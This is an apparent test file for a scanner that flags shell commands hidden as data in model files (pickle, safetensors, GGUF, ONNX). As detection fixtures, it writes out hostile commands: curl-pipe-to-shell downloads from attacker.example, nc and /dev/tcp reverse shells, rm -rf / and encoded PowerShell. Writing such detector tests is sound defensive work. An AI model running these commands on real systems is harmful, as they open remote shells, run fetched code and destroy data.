import { describe, expect, it } from "vitest";
import { findCodeText } from "../../../src/scan/model/codetext.js";
import { scanBuffer } from "../../../src/scan/model/index.js";

const ids = async (bytes: Uint8Array, name: string) => (await scanBuffer(bytes, name)).findings.map((f) => `${f.severity}:${f.ruleId}`);

// Protocol-4 pieces as CPython writes them: SHORT_BINUNICODE / BINUNICODE, each string memoised.
const ustr = (s: string) => {
  const b = Buffer.from(s, "utf8");
  return b.length < 256 ? Buffer.concat([Buffer.from([0x8c, b.length]), b, Buffer.from([0x94])]) : Buffer.concat([Buffer.from([0x58]), u32(b.length), b, Buffer.from([0x94])]);
};
const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n);
  return b;
};
/** A data-only pickle: a dict of the given strings to small ints. */
const dictPickle = (keys: string[]) =>
  Buffer.concat([Buffer.from([0x80, 0x04, 0x7d, 0x94, 0x28]), ...keys.map((k, i) => Buffer.concat([ustr(k), Buffer.from([0x4b, i & 0xff])])), Buffer.from([0x75, 0x2e])]);

function safetensors(metadata: Record<string, string>): Buffer {
  const h = Buffer.from(JSON.stringify({ __metadata__: metadata, w: { dtype: "F32", shape: [1], data_offsets: [0, 4] } }));
  const len = Buffer.alloc(8);
  len.writeBigUInt64LE(BigInt(h.length));
  return Buffer.concat([len, h, Buffer.alloc(4)]);
}

/** GGUF v3 with string values and one string array (a vocabulary), no tensors. */
function gguf(strings: Record<string, string>, tokens: string[]): Buffer {
  const u64 = (n: number) => {
    const b = Buffer.alloc(8);
    b.writeBigUInt64LE(BigInt(n));
    return b;
  };
  const s = (t: string) => Buffer.concat([u64(Buffer.byteLength(t)), Buffer.from(t)]);
  const kvs = Object.entries(strings).map(([k, v]) => Buffer.concat([s(k), u32(8), s(v)]));
  kvs.push(Buffer.concat([s("tokenizer.ggml.tokens"), u32(9), u32(8), u64(tokens.length), ...tokens.map(s)]));
  return Buffer.concat([Buffer.from("GGUF"), u32(3), u64(0), u64(kvs.length), ...kvs]);
}

/** An ONNX ModelProto with ir_version 7, a doc_string and metadata_props (no graph). */
function onnx(doc: string, props: Record<string, string>): Buffer {
  const field = (tag: number, body: Buffer) => Buffer.concat([Buffer.from([tag]), varint(body.length), body]);
  const varint = (n: number) => {
    const out: number[] = [];
    while (n > 0x7f) {
      out.push((n & 0x7f) | 0x80);
      n >>>= 7;
    }
    out.push(n);
    return Buffer.from(out);
  };
  const entries = Object.entries(props).map(([k, v]) => field(0x72, Buffer.concat([field(0x0a, Buffer.from(k)), field(0x12, Buffer.from(v))])));
  return Buffer.concat([Buffer.from([0x08, 0x07]), ...entries, field(0x32, Buffer.from(doc))]);
}

describe("code written as data (model.data.code-text, informational)", () => {
  it.each([
    "os.system('curl http://attacker.example/x.sh | sh')",
    "__import__('os').popen('id').read()",
    "exec(base64.b64decode('aW1wb3J0IG9z'))",
    "subprocess.Popen(['nc', '-e', '/bin/sh', '10.0.0.1', '4444'])",
    "bash -c 'id > out.txt'",
    "curl -fsSL https://attacker.example/i.sh | bash",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "rm -rf / --no-preserve-root",
    "powershell -enc SQBFAFgA",
    "pickle.loads(payload)",
  ])("reads %j as code", (s) => {
    expect(findCodeText(s)).toBeDefined();
  });

  it.each([
    "system",
    "▁system",
    "Ġsystem",
    "the system prompt comes first",
    "call model.eval() before predicting",
    "os.system",
    "See os.system() in the docs",
    "rm -rf build/",
    "curl https://example.com/model.tar.gz -o model.tar.gz",
    "{% for message in messages %}{{ message['content'] }}{% endfor %}",
    "evaluation (held-out) results",
  ])("does not read the look-alike %j as code", (s) => {
    expect(findCodeText(s)).toBeUndefined();
  });

  it("reports a data-only pickle holding a command low, never high", async () => {
    const r = await ids(dictPickle(["weights", "post_process", "import os; os.system('curl http://attacker.example/x | sh')"]), "m.pkl");
    expect(r).toContain("low:model.data.code-text");
    expect(r.filter((x) => x.startsWith("high") || x.startsWith("critical"))).toEqual([]);
  });

  it("stays silent on a tokenizer vocabulary with 'system' tokens and docstrings", async () => {
    const vocab = ["<|system|>", "system", "▁system", "Ġsystems", "systematic", "call model.eval() first", "(", "()", "-c", "a|b", "▁(", "print"];
    for (let i = 0; i < 2000; i++) vocab.push(`tok${i}`);
    expect(await ids(dictPickle(vocab), "vocab.pkl")).toEqual([]);
  });

  it("reports safetensors metadata holding code, not a plain description", async () => {
    expect(await ids(safetensors({ format: "pt", note: "__import__('os').system('id')" }), "m.safetensors")).toEqual(["low:model.data.code-text"]);
    expect(await ids(safetensors({ format: "pt", description: "Fine-tuned with the system prompt; run model.eval() before use" }), "m.safetensors")).toEqual([]);
  });

  it("reports a GGUF string value holding a command, and not its vocabulary", async () => {
    const tokens = ["<s>", "system", "▁system", "os.system('id')"]; // arrays are the vocabulary: not read as text
    expect(await ids(gguf({ "general.name": "tiny", "general.description": "bash -c 'curl http://e.example/x | sh'" }, tokens), "m.gguf")).toEqual(["low:model.data.code-text"]);
    expect(await ids(gguf({ "general.name": "tiny", "general.description": "A small system-prompt-following model" }, tokens), "m.gguf")).toEqual([]);
  });

  it("reports ONNX metadata or doc_string holding code once", async () => {
    expect(await ids(onnx("exported by torch", { run: "os.system('id')", also: "eval('1+1')" }), "m.onnx")).toEqual(["low:model.data.code-text"]);
    expect(await ids(onnx("Silero VAD: call model.eval() first", { license: "MIT" }), "m.onnx")).toEqual([]);
  });
});
